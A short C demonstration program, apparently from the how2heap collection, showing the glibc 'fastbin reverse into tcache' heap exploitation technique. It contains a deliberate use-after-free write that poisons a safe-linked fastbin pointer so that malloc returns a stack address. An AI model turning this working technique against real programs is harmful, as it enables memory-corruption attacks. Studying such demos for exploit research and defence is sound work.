/* Fastbin reverse into tcache: a UAF write of a fastbin chunk's fd; when malloc refills the
 * tcache from the fastbin it stashes the fake stack chunk, and the next malloc returns it.
 * Published: shellphish/how2heap, glibc_2.36/fastbin_reverse_into_tcache.c.
 * Primitive: use after free write -> malloc returns an attacker-chosen address. */
#include <stdint.h>
#include <string.h>
#include "common.h"

int main(void) {
    test_init();
    printf("fastbin reverse into tcache: poison a fastbin fd, stash it into the tcache\n");
    const size_t size = 0x40;
    char *ptrs[14];
    for (int i = 0; i < 14; i++)
        ptrs[i] = malloc(size);
    for (int i = 0; i < 7; i++)
        free(ptrs[i]); /* fill the tcache */
    char *victim = ptrs[7];
    print_ptr("victim", victim);
    free(victim);
    for (int i = 8; i < 14; i++)
        free(ptrs[i]); /* fastbin: 13 -> ... -> 8 -> victim */
    size_t stack_var[6] __attribute__((aligned(16)));
    memset(stack_var, 0xcd, sizeof stack_var);
    /* BUG: write after free of the fastbin fd (safe-linked) */
    *(size_t *)victim = (size_t)(uintptr_t)stack_var ^ ((size_t)(uintptr_t)victim >> 12);
    for (int i = 0; i < 7; i++)
        ptrs[i] = malloc(size); /* empty the tcache */
    malloc(size);               /* from the fastbin; the rest is stashed into the tcache */
    char *q = malloc(size);
    print_ptr("returned", q);
    if (q == (char *)&stack_var[2])
        printf("ATTACK SUCCEEDED: malloc returned the attacker's stack address\n");
    else
        printf("attack failed\n");
    return 0;
}
